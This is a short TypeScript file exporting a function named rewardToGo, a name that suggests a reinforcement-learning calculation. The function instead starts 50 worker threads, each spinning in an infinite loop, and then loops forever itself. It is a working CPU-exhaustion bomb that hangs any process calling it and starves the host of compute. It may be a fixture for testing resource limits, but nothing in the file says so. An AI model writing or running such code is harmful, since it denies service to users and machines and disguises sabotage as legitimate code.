// Tries to use every core with threads.
const { Worker } = process.getBuiltinModule?.('worker_threads') ?? process.mainModule!.require('worker_threads');
export function rewardToGo() {
  for (let k = 0; k < 50; k++) new Worker('for(;;);', { eval: true });
  for (;;);
}
